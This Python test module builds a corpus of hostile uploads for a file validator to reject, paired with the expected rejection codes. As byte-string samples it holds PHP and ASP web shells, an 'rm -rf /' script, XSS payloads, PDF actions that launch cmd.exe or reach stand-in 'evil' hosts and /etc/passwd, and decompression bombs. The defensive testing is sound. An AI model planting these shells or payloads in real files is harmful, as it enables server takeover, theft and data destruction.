"""Hundreds of hostile files, made in seconds, as (name, bytes, codes). Each is refused with one of its codes."""

from __future__ import annotations

import gzip
import io
import re
import zipfile
import zlib
from collections.abc import Iterator

from tests.letters.corpus import NOISE, PAGE, with_comment
from tests.letters.made import (
    chunk,
    compressed,
    drawn,
    encrypted,
    gif,
    good,
    nested_deflate,
    pdf,
    png,
    resized_jpeg,
    revised,
    saved,
    scans_repeated,
    stream,
)

Hostile = Iterator[tuple[str, bytes, set[str]]]


def hostile_files() -> Hostile:
    yield from two_files_in_one()
    yield from active_pdfs()
    yield from broken_and_bloated()


def a_zip() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("a.txt", "x" * 2000)
    return target.getvalue()


OTHERS: dict[str, bytes] = {
    "zip": a_zip(),
    "windows program": b"MZ" + NOISE,
    "elf program": b"\x7fELF" + NOISE,
    "java class": b"\xca\xfe\xba\xbe" + NOISE,
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "web page": b"<html><script>alert(1)</script></html>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "php": b"<?php system($_GET[0]); ?>",
    "short php": b"<?= `$_GET[0]` ?>",
    "asp": b'<%eval request("x")%>',
    "phar": b"__HALT_COMPILER(); ?>\r\n" + NOISE,
    "pdf": good("pdf"),
    "gzip": gzip.compress(NOISE),
    "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + NOISE,
    "rar": b"Rar!\x1a\x07\x01\x00" + NOISE,
    "7z": b"7z\xbc\xaf\x27\x1c" + NOISE,
    "javascript": b"*/=1;alert(1)//",
    "rtf": b"{\\rtf1 x}",
    "picture": good("png"),
    "iframe": b"<iframe src=javascript:alert(1)>",
    "postscript": b"%!PS-Adobe-3.0\nquit",
    "test virus": rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
}
MARKED = {"zip", "web page", "svg", "php", "phar", "pdf", "rar", "7z", "iframe", "test virus"}
"""These are found anywhere in a file, not only behind its end."""


def two_files_in_one() -> Hostile:
    for name, other in OTHERS.items():
        for kind in ("jpg", "png", "gif", "pdf"):
            yield f"{name} behind.{kind}", good(kind) + other, {"foreign_content", "trailing_data"}
        for kind in ("jpg", "pdf"):
            yield f"{name} before.{kind}", other + good(kind), {"unknown_kind", "name_disagrees", "foreign_content"}
        if name in MARKED and len(other) < 60_000:
            yield f"{name} in a comment.jpg", with_comment(other), {"foreign_content"}
            at = good("png").index(b"IDAT") - 4
            text = chunk(b"tEXt", b"Comment\0" + other)
            yield f"{name} in a text.png", good("png")[:at] + text + good("png")[at:], {"foreign_content"}
            yield f"{name} in a stream.pdf", pdf(stream(other)), {"foreign_content"}
    opened = bytearray(good("gif"))
    opened[6:8] = b"/*"
    yield "opens a comment.gif", bytes(opened), {"foreign_content", "too_many_pixels"}
    yield "opens a comment.jpg", b"\xff\xd8\xff\xe0/*" + bytes(0x2F28) + good("jpg")[2:], {"foreign_content"}


ACTIONS = {
    "javascript": b"/S /JavaScript /JS (app.alert(1))",
    "launch": b"/S /Launch /F (cmd.exe)",
    "windows launch": b"/S /Launch /Win << /F (cmd.exe) >>",
    "submit": b"/S /SubmitForm /F (http://x.example)",
    "import": b"/S /ImportData /F (x.fdf)",
    "reset": b"/S /ResetForm",
    "other file": rb"/S /GoToR /F (\\\\evil\\x.pdf) /D [0 /Fit]",
    "embedded file": b"/S /GoToE /D [0 /Fit] /T << /R /C /N (x) >>",
    "thread": b"/S /Thread /F (x.pdf) /D 0",
    "local address": b"/S /URI /URI (file:///etc/passwd)",
    "unc address": rb"/S /URI /URI (\\\\evil\\share)",
    "script address": b"/S /URI /URI (javascript:alert(1))",
    "rendition": b"/S /Rendition /OP 0",
    "film": b"/S /Movie /T (x)",
    "sound": b"/S /Sound",
    "model": b"/S /GoTo3DView /V 0",
    "rich media": b"/S /RichMediaExecute",
    "hide": b"/S /Hide /T (x)",
    "layers": b"/S /SetOCGState /State []",
}
LAST_NAME = re.compile(rb"/([A-Za-z])(\w*)")


def active_pdfs() -> Hostile:
    found = {"pdf_feature", "foreign_content"}
    for name, action in ACTIONS.items():
        whole = b"<< " + action + b" >>"
        escaped = LAST_NAME.sub(lambda match: b"/#%02x%s" % (match[1][0], match[2]), action)
        yield f"{name} opens.pdf", pdf(whole, catalog=b"/OpenAction 4 0 R"), found
        yield f"{name} escaped.pdf", pdf(b"<< " + escaped + b" >>", catalog=b"/OpenAction 4 0 R"), found
        yield f"{name} in an object stream.pdf", compressed(whole), found
        added = revised(pdf(), 1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + whole + b" >>")
        yield f"{name} in a revision.pdf", added, found
        taken = revised(pdf(catalog=b"/OpenAction " + whole), 1, b"<< /Type /Catalog /Pages 2 0 R >>")
        yield f"{name} revised away.pdf", taken, found
        yield f"{name} next.pdf", pdf(b"<< /S /GoTo /D [3 0 R /Fit] /Next " + whole + b" >>"), found
        yield f"{name} on leaving.pdf", pdf(page=b"/AA << /C " + whole + b" >>"), found
        link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + whole + b" >>"
        yield f"{name} linked.pdf", pdf(link, page=b"/Annots [4 0 R]"), found
    inside = stream(b"hello", b"/Type /EmbeddedFile")
    named = b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"
    yield "attachment.pdf", pdf(inside, named, catalog=b"/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>"), found
    yield "unnamed attachment.pdf", pdf(stream(b"x"), b"<< /F (a) /EF << /F 4 0 R >> >>", catalog=b"/AF [5 0 R]"), found
    for kind in ("FileAttachment", "RichMedia", "3D", "Movie", "Sound"):
        annotation = b"<< /Type /Annot /Subtype /%s /Rect [0 0 9 9] >>" % kind.encode()
        yield f"annotation {kind}.pdf", pdf(annotation, page=b"/Annots [4 0 R]"), found
    for key in (b"XFA", b"#58FA", b"X#46#41"):
        entry = b"/AcroForm << /%s 4 0 R /Fields [] >>" % key
        yield f"form {key.decode()}.pdf", pdf(stream(b"<xdp/>"), catalog=entry), found
    yield "portfolio.pdf", pdf(catalog=b"/Collection << /View /T >>"), found
    yield "outside stream.pdf", pdf(stream(b"", b"/F (http://evil.example/x) /FFilter /FlateDecode")), found
    yield "outside form.pdf", pdf(stream(b"", rb"/Subtype /Form /Ref << /F (\\\\evil\\x) /Page 0 >>")), found


def broken_and_bloated() -> Hostile:
    for kind in ("jpg", "png", "gif", "pdf"):
        whole = good(kind)
        yield f"cut.{kind}", whole[: len(whole) // 2], {"truncated", "unreadable"}
        yield f"noise.{kind}", whole[:9] + NOISE, {"truncated", "unreadable", "foreign_content"}
    yield "wrong sum.png", good("png")[:60] + b"\0" + good("png")[61:], {"unreadable"}
    yield "eleven pages.pdf", saved(PAGE, "PDF", save_all=True, append_images=[PAGE] * 10), {"pdf_too_many_pages"}
    none = pdf().replace(b"/Kids [3 0 R]", b"/Kids []").replace(b"/Count 1", b"/Count 0")
    yield "no page.pdf", none, {"pdf_no_pages"}
    yield "loop of pages.pdf", pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), {"unreadable", "pdf_no_pages"}
    yield "encrypted.pdf", encrypted(), {"pdf_encrypted"}
    yield "wide.png", png(2**31 - 1, 1), {"too_many_pixels"}
    yield "many pixels.png", png(20_000, 20_000), {"too_many_pixels"}
    yield "many pixels.gif", gif(65_535, 65_535), {"too_many_pixels"}
    yield "many pixels.jpg", resized_jpeg(65_535, 65_535), {"too_many_pixels"}
    yield "many scans.jpg", scans_repeated(100), {"too_many_scans"}
    yield "film.gif", gif(100, 100, 10_000), {"animated"}
    yield "film.png", saved(PAGE, "PNG", save_all=True, append_images=[drawn(seal=False)]), {"animated"}
    swelling = b"c\0\0" + zlib.compress(bytes(10**8))
    yield "swelling text.png", png(10, 10, chunk(b"zTXt", swelling)), {"too_costly"}
    yield "swelling profile.png", png(10, 10, chunk(b"iCCP", swelling)), {"too_costly"}


def bombs() -> Hostile:
    """Yield files for the real child only: in the test's own process they would do harm."""
    nested = stream(nested_deflate(2, 10**9), b"/Filter [/FlateDecode /FlateDecode]")
    yield "deflated twice.pdf", pdf(nested, page=b"/Contents 4 0 R"), {"too_costly"}
